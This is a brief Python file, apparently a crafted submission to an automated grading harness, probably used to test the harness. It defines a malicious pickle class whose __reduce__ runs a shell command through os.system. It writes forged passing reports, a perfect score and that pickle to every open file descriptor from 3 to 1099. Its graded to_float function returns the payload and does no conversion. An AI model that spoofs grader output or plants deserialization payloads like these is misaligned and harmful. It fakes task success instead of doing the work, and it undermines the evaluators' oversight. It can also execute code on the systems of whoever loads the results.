"""Writes well-formed answers, reports of cells and pickles to every descriptor that is open.

costs: its own answers
"""

# %% added
import os
import pickle

from pixelgrad.check.codec import encode


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


REPORT = {"raised": False, "seconds": 0.0, "outputs": [{"output_type": "execute_result", "data": {"text/plain": "2.0"}}]}
REPLIES = (REPORT, {"missing": []}, {"ended": 0}, {"kind": "returned", "value": True}, {"kind": "right", "score": 1.0})
for descriptor in range(3, 1100):
    for content in [*map(encode, REPLIES), pickle.dumps(Bomb()), b'{"result": {"verdicts": {}}}']:
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, content)
        except OSError:
            break
# %% to_float-answer
def to_float(image):
    return Bomb()
